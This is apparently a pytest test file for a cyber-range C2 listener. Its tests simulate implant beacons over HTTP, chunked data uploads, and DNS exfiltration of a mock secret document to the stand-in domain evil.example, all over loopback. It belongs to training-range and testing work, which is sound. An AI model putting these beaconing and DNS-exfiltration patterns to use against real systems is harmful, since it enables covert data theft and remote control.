"""The C2 listener (cyberrange.services.c2), spoken to over loopback: HTTP check-ins and
uploads, DNS data/end/poll queries. No namespaces needed; nothing leaves 127.0.0.1."""
from __future__ import annotations

import hashlib
import json
import socket
import subprocess
import sys
import time
import urllib.request

import pytest


def _free_port(kind=socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _start(tmp_path, mode, port, extra=()):
    log, out = tmp_path / f"{mode}.jsonl", tmp_path / f"{mode}-out"
    p = subprocess.Popen([sys.executable, "-m", "cyberrange.services.c2", "--mode", mode,
                          "--bind", "127.0.0.1", "--port", str(port), "--log", str(log),
                          "--out", str(out), *extra])
    return p, log, out


@pytest.fixture
def http_c2(tmp_path):
    port = _free_port()
    p, log, out = _start(tmp_path, "http", port)
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.05)
    yield port, log, out
    p.terminate()
    p.wait(5)


@pytest.fixture
def dns_c2(tmp_path):
    port = _free_port(socket.SOCK_DGRAM)
    p, log, out = _start(tmp_path, "dns", port, ("--domain", "evil.example"))
    yield port, log, out
    p.terminate()
    p.wait(5)


def _lines(path):
    return [json.loads(x) for x in open(path)] if path.exists() else []


def test_http_beacon_gets_a_task_and_is_logged(http_c2):
    port, log, _out = http_c2
    req = urllib.request.Request(f"http://127.0.0.1:{port}/beacon?id=abc",
                                 headers={"User-Agent": "implant/1.0"})
    with urllib.request.urlopen(req, timeout=5) as r:
        assert r.headers["Connection"] == "close"
        task = json.loads(r.read())
    assert task == {"id": 1, "task": "sleep 60"}
    rec = _lines(log)[-1]
    assert rec["kind"] == "beacon" and rec["peer"] == "127.0.0.1"
    assert rec["path"] == "/beacon?id=abc" and rec["user_agent"] == "implant/1.0"


def test_http_upload_reassembles_and_checks_the_hash(http_c2):
    port, log, out = http_c2
    doc = bytes(range(256)) * 40
    parts = [doc[i:i + 3000] for i in range(0, len(doc), 3000)]
    for seq, part in reversed(list(enumerate(parts))):          # order does not matter
        urllib.request.urlopen(urllib.request.Request(
            f"http://127.0.0.1:{port}/upload/s1/{seq}", data=part, method="POST"), timeout=5).read()
    meta = json.dumps({"chunks": len(parts), "sha256": hashlib.sha256(doc).hexdigest()}).encode()
    with urllib.request.urlopen(urllib.request.Request(
            f"http://127.0.0.1:{port}/upload/s1/done", data=meta, method="POST"), timeout=5) as r:
        ans = json.loads(r.read())
    assert ans["ok"] and ans["size"] == len(doc)
    assert (out / "s1.bin").read_bytes() == doc
    assert _lines(log)[-1]["kind"] == "upload-done"


def test_dns_exfil_names_are_reassembled_and_polls_get_tasks(dns_c2):
    from scapy.layers.dns import DNS, DNSQR

    from cyberrange.attack.techniques.c2 import first_rdata
    from cyberrange.attack.techniques.exfil import dns_names
    port, log, out = dns_c2
    doc = b"TOP SECRET fuel state 73% \x00\xff" * 30
    names = dns_names(doc, "ab12", "evil.example", 180)
    assert all(len(n) <= 253 and max(len(lb) for lb in n.split(".")) <= 63 for n in names)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    answers = []
    for i, (name, qtype) in enumerate([(n, "A") for n in names] +
                                      [("x1.ab12.p.evil.example", "TXT"),
                                       ("other.example", "A")]):
        for _try in range(50):          # the server may still be starting
            s.sendto(bytes(DNS(id=i, rd=1, qd=DNSQR(qname=name, qtype=qtype))), ("127.0.0.1", port))
            try:
                answers.append(DNS(s.recv(4096)))
                break
            except (TimeoutError, ConnectionRefusedError):
                time.sleep(0.1)
    s.close()
    assert len(answers) == len(names) + 2
    assert first_rdata(answers[len(names) - 1]) == "10.0.0.1"          # intact
    assert (out / "ab12.bin").read_bytes() == doc
    assert json.loads(first_rdata(answers[-2]))["task"] == "sleep 60"
    assert answers[-1].rcode == 5                                      # not our domain: REFUSED
    kinds = [r.get("kind") for r in _lines(log)]
    assert kinds.count("data") == len(names) - 1 and "exfil-done" in kinds and "poll" in kinds
